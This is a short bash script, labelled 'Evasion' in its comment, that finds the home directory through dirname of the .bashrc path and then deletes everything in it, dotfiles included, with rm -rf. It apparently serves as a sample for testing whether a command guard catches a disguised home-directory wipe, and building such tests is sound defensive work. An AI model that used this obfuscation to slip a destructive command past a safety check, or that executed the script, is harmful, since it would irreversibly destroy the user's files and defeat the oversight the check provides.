#!/usr/bin/env bash
# Evasion: finds "the directory of the shell's rc file" with dirname and
# empties it: dirname of $HOME/.bashrc is the home.
rc="$HOME/.bashrc"
dir="$(dirname "$rc")"
shopt -s dotglob
rm -rf "$dir"/*
